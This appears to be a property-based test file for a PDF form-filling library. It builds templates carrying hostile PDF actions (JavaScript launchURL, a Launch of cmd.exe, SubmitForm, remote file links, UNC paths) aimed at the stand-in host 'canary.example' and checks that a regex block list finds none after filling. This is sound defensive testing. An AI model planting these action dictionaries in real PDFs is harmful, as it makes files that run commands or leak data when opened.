import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { PDFArray, PDFDict, PDFDocument, PDFName, type PDFObject, PDFString } from '@cantoo/pdf-lib'
import fc from 'fast-check'
import { checkPdf, fillPdf } from './pdf-form.format.ts'

const RUNS = Number(process.env.KONTOR_TEST_CASES ?? (process.env.KONTOR_TEST_ALL ? 3000 : 60))
const SEED = Number(process.env.KONTOR_TEST_SEED ?? 20_261_124)
const folder = mkdtempSync(join(tmpdir(), 'kontor-hostile-pdf-'))
after(() => rmSync(folder, { recursive: true, force: true }))

const CANARY = 'canary.example'
/** What a file could do when it is opened, printed or closed, as a dictionary of its objects; ISO 32000-1 § 12.6.4. */
const ACTIONS: Entry[] = [
  { S: 'JavaScript', JS: '(app.launchURL("http://canary.example"))' },
  { S: 'Launch', F: '(\\\\\\\\canary.example\\\\x.exe)', Win: { F: '(cmd.exe)', P: '(/c canary.example)' } },
  { S: 'SubmitForm', F: { FS: 'URL', F: '(http://canary.example)' } },
  { S: 'ImportData', F: '(canary.example)' },
  { S: 'GoToR', F: '(//canary.example/x.pdf)', D: ['0', 'Fit'] },
  { S: 'GoToE', F: '(canary.example)', T: { R: 'C', N: '(x)' } },
  { S: 'URI', URI: '(file:///canary.example)' },
  { S: 'URI', URI: '(javascript:canary.example)' },
  { S: 'URI', URI: '(\\\\\\\\canary.example\\\\share)' },
  { S: 'Thread', F: '(canary.example)', D: '0' },
  { S: 'Rendition', JS: '(canary.example)', OP: '0' },
  { S: 'Sound', Sound: { F: '(canary.example)' } },
  { S: 'Movie', T: '(canary.example)' },
  { S: 'Hide', T: '(canary.example)' },
  { S: 'Named', N: 'Print', X: '(canary.example)' },
  { S: 'RichMediaExecute', CMD: { C: '(canary.example)' } },
  { S: 'GoTo', D: ['0', 'Fit'], Next: { S: 'JavaScript', JS: '(canary.example)' } },
  { S: 'URI', URI: '(https://kontor.example)', Next: [{ S: 'Launch', F: '(canary.example)' }] },
]
type Entries = { [key: string]: Entry }
type Entry = string | Entry[] | Entries
const KINDS = 'Link Widget Screen Movie Sound RichMedia FileAttachment 3D TrapNet PrinterMark Projection Stamp'.split(
  ' ',
)

type Place = (document: PDFDocument, action: PDFObject, kind: string) => void
const dict = (document: PDFDocument, entries: Record<string, unknown>) =>
  document.context.obj(entries as never) as unknown as PDFDict
const annotation = (document: PDFDocument, entries: Record<string, unknown>) => {
  const page = document.getPage(0).node
  const list = page.lookupMaybe(PDFName.of('Annots'), PDFArray) ?? (document.context.obj([]) as PDFArray)
  list.push(document.context.register(dict(document, { Type: 'Annot', Rect: [0, 0, 9, 9], ...entries })))
  page.set(PDFName.of('Annots'), list)
}
const PLACES: Record<string, Place> = {
  'on opening': (document, action) => document.catalog.set(PDFName.of('OpenAction'), action),
  'on closing': (document, action) =>
    document.catalog.set(PDFName.of('AA'), dict(document, { WC: action, DP: action })),
  'on a page': (document, action) =>
    document.getPage(0).node.set(PDFName.of('AA'), dict(document, { O: action, C: action })),
  'on all pages': (document, action) => document.catalog.Pages().set(PDFName.of('AA'), dict(document, { O: action })),
  'on what lies on a page': (document, action, kind) => annotation(document, { Subtype: kind, A: action }),
  'around what lies on a page': (document, action, kind) =>
    annotation(document, { Subtype: kind, AA: { E: action, PO: action, PV: action } }),
  'in what was once there': (document, action, kind) => annotation(document, { Subtype: kind, PA: action }),
  'on a field': (document, action) =>
    document
      .getForm()
      .getTextField('mitarbeiter.nachname')
      .acroField.dict.set(PDFName.of('AA'), dict(document, { K: action, C: action })),
  'on the field’s place': (document, action) =>
    document
      .getForm()
      .getTextField('mitarbeiter.nachname')
      .acroField.getWidgets()[0]!
      .dict.set(PDFName.of('A'), action),
  'on a button': (document, action) => {
    const button = document.getForm().createButton('Senden')
    button.addToPage('Senden', document.getPage(0), { x: 5, y: 5, width: 50, height: 20 })
    button.acroField.getWidgets()[0]!.dict.set(PDFName.of('A'), action)
  },
  'by a name': (document, action) =>
    document.catalog.set(
      PDFName.of('Names'),
      dict(document, {
        JavaScript: { Kids: [{ Names: [PDFString.of('x'), action] }] },
        EmbeddedFiles: { Names: [PDFString.of('x'), { EF: { F: action } }] },
      }),
    ),
  'in the outline': (document, action) => {
    const { context } = document
    const outlines = context.register(dict(document, { Type: 'Outlines', Count: 1 }))
    const item = context.register(
      dict(document, { Title: PDFString.of('Kapitel'), Parent: outlines, A: action, SE: action }),
    )
    for (const end of ['First', 'Last']) context.lookup(outlines, PDFDict).set(PDFName.of(end), item)
    document.catalog.set(PDFName.of('Outlines'), outlines)
  },
  'as what belongs to it': (document, action) => document.catalog.set(PDFName.of('AF'), document.context.obj([action])),
  'where nothing names it': (document, action) => void document.context.register(document.context.obj([action])),
  'in a stream that lies elsewhere': document => {
    const stream = document.context.stream('x', { F: PDFString.of(CANARY), FFilter: 'FlateDecode' })
    document.getPage(0).node.set(PDFName.of('Thumb'), document.context.register(stream))
  },
}

/** A name, a text in brackets, a number, or what holds some; each as an object of its own where `apart`. */
function objectOf(document: PDFDocument, entry: Entry, apart: boolean): PDFObject {
  const { context } = document
  const made = (): PDFObject => {
    if (Array.isArray(entry)) return context.obj(entry.map(one => objectOf(document, one, apart)))
    if (typeof entry === 'object')
      return context.obj(
        Object.fromEntries(Object.entries(entry).map(([key, one]) => [key, objectOf(document, one, apart)])),
      )
    if (entry.startsWith('(')) return PDFString.of(entry.slice(1, -1))
    return /^\d/.test(entry) ? context.obj(Number(entry)) : PDFName.of(entry)
  }
  return apart ? context.register(made()) : made()
}

async function formWith(place: string, action: Entry, kind: string, apart: boolean, packed: boolean): Promise<Buffer> {
  const document = await PDFDocument.create()
  const page = document.addPage([300, 300])
  document.getForm().createTextField('mitarbeiter.nachname').addToPage(page, { x: 20, y: 200, width: 200, height: 20 })
  PLACES[place]!(document, objectOf(document, action, apart), kind)
  return Buffer.from(await document.save({ useObjectStreams: packed }))
}

const RUNNING =
  /\/(AA|OpenAction|JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFiles?|EF|AF|XFA|AcroForm|RichMedia\w*|Rendition|Movie|Sound|Screen|FileAttachment|Widget)\b/

/** Everything that a file holds, unpacked, as text. */
async function insideOf(bytes: Buffer): Promise<string> {
  const { context } = await PDFDocument.load(bytes, { throwOnInvalidObject: true, updateMetadata: false })
  return context
    .enumerateIndirectObjects()
    .map(([, object]) => String(object))
    .join('\n')
}

async function expectHarmless(template: Buffer, what: string): Promise<void> {
  const { fields } = await checkPdf(template)
  assert.deepEqual(fields, ['mitarbeiter.nachname'], what)
  const filled = await fillPdf(template, { 'mitarbeiter.nachname': 'Huber' })
  const inside = await insideOf(filled)
  assert.doesNotMatch(inside, RUNNING, what)
  assert.ok(!inside.includes(CANARY) && !filled.includes(CANARY), what)
  writeFileSync(join(folder, 'a.pdf'), filled)
  execFileSync('qpdf', ['--check', join(folder, 'a.pdf')])
  assert.match(execFileSync('pdftotext', [join(folder, 'a.pdf'), '-'], { encoding: 'utf8' }), /Huber/)
}

test('in the form that is made hostile below the words for it would be found', async () => {
  const template = await formWith('on what lies on a page', ACTIONS[0]!, 'Link', true, false)
  const inside = await insideOf(template)
  assert.match(inside, RUNNING)
  assert.ok(inside.includes(CANARY))
})

for (const [place, action] of Object.keys(PLACES).map((place, at) => [place, ACTIONS[at % ACTIONS.length]!] as const))
  test(`a form that does something ${place} is filled without that`, async () =>
    expectHarmless(await formWith(place, action, 'Link', true, true), place))

test('a filled form does nothing, whatever its template would do and wherever that stands', () =>
  fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...Object.keys(PLACES)),
      fc.constantFrom(...ACTIONS),
      fc.constantFrom(...KINDS),
      fc.boolean(),
      fc.boolean(),
      async (place, action, kind, apart, packed) =>
        expectHarmless(await formWith(place, action, kind, apart, packed), `${place}: ${JSON.stringify(action)}`),
    ),
    { numRuns: RUNS, seed: SEED },
  ))

test('a link that is seen stays, and so do marks, notes and the outline', async () => {
  const link = { S: 'URI', URI: '(https://kontor.example/agb)' }
  const document = await PDFDocument.load(await formWith('in the outline', link, 'Link', true, true))
  annotation(document, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('mailto:buero@kontor.example') } })
  annotation(document, { Subtype: 'Highlight', Contents: PDFString.of('Bitte beachten') })
  const inside = await insideOf(await fillPdf(Buffer.from(await document.save()), { 'mitarbeiter.nachname': 'Huber' }))
  for (const kept of ['https://kontor.example/agb', 'mailto:buero@kontor.example', 'Bitte beachten', 'Kapitel'])
    assert.ok(inside.includes(kept), kept)
})
